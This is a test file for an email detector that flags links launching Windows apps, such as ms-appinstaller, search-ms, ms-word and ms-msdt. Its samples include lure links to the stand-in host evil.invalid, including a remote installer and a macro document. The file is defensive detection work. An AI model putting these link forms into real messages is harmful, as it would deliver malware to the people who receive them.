import appLaunchingLink from '../../../src/detection/detectors/link/app-launching-link';
import { mailWithAddress, mailWithLink, mailWithoutBody } from '../../builders/links';
import { testDetector } from '../test-detector';

testDetector(appLaunchingLink, {
  fires: [
    {
      name: 'the app installer',
      mail: mailWithLink('ms-appinstaller:?source=https://evil.invalid/abc/component.appinstaller', 'Preview PDF'),
      finds: [{ message: 'installer', values: { host: 'evil[.]invalid' } }],
    },
    {
      name: 'a search in a folder of strangers',
      mail: mailWithLink('search-ms:query=invoice&crumb=location:\\\\evil.invalid@80\\share&displayname=Downloads'),
      finds: [{ message: 'remoteSearch', values: { host: 'evil[.]invalid' } }],
    },
    {
      name: 'Word at once',
      mail: mailWithLink('ms-word:ofe|u|https://evil.invalid/invoice.docm'),
      finds: [{ message: 'opensInOffice' }],
    },
    {
      name: 'Word at once, on a server of the one firm that the mail goes to: lowered, for anybody can write that',
      mail: mailWithLink('onenote:https://notes.reader.example/a.one'),
      finds: [{ message: 'opensInOffice', dampener: 'same-domain' } as { readonly message: string }],
    },
    {
      name: 'a Windows tool',
      mail: mailWithLink('ms-msdt:/id nothing'),
      finds: [{ message: 'troubleshooter', values: { scheme: 'ms-msdt' } }],
    },
    {
      name: 'in plain text',
      mail: mailWithAddress('ms-appinstaller:?source=https://evil.invalid/a.appinstaller'),
      finds: [{ message: 'installer' }],
    },
  ],
  silent: [
    {
      name: 'SharePoint opens its own document',
      mail: mailWithLink('ms-word:ofe|u|https://partner.sharepoint.com/sites/a/Plan.docx'),
    },
    {
      name: 'the intranet opens its own document',
      mail: mailWithLink('ms-excel:ofe|u|https://portal.reader.example/plan.xlsx'),
      settings: { internalDomains: ['reader.example'] },
    },
    { name: 'a server in the office', mail: mailWithLink('ms-excel:ofe|u|http://fileserver/plan.xlsx') },
    { name: 'a search on the own computer', mail: mailWithLink('search-ms:query=holiday') },
    { name: 'a telephone number', mail: mailWithLink('tel:+81312345678') },
    {
      name: 'a newsletter that shows the trick, made unclickable',
      mail: mailWithAddress('ms-appinstaller:?source=hxxps://evil[.]invalid/a'),
    },
  ],
  unchecked: [{ name: 'the body was not handed over', mail: mailWithoutBody(), gap: 'not-supported-here' }],
});
